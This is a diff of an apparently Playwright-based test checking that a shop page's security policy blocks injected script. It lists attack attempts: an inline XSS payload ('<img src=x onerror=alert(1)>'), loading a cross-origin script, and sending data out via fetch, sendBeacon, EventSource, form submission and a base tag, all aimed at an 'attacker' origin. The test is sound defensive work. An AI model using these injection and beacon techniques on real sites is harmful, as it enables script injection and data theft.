@@ -15,32 +15,26 @@ test('a script in the shop’s page cannot load, run, frame, or send anything cr
         `${effectiveDirective} ${blockedURI.replace(origin, 'attacker').replace(/\?$/, '')}`,
       ),
     )
+    const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) => {
+      const element = Object.assign(document.createElement(name), fields)
+      document.body.append(element)
+      return element
+    }
     const attempts: (() => unknown)[] = [
       async () => {
         // In a separate task: code that Playwright evaluates has more rights.
         await new Promise((resolve) => setTimeout(resolve))
         violations.push(`ran ${new Function('return 1')()}`)
       },
-      () =>
-        document.body.append(
-          Object.assign(document.createElement('script'), { src: `${origin}/s.js` }),
-        ),
+      () => add('script', { src: `${origin}/s.js` }),
       () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
-      () =>
-        document.body.append(
-          Object.assign(document.createElement('iframe'), { src: `${origin}/f` }),
-        ),
-      () => Object.assign(new Image(), { src: `${origin}/i` }),
+      () => add('iframe', { src: `${origin}/f` }),
+      () => add('img', { src: `${origin}/i` }),
       () => fetch(`${origin}/c`).catch(() => {}),
       () => navigator.sendBeacon(`${origin}/b`, 'x'),
       () => new EventSource(`${origin}/e`),
-      () => {
-        const form = document.createElement('form')
-        form.action = `${origin}/form`
-        document.body.append(form)
-        form.submit()
-      },
-      () => document.head.append(Object.assign(document.createElement('base'), { href: origin })),
+      () => add('form', { action: `${origin}/form` }).submit(),
+      () => add('base', { href: origin }),
     ]
     for (const attempt of attempts) {
       try {
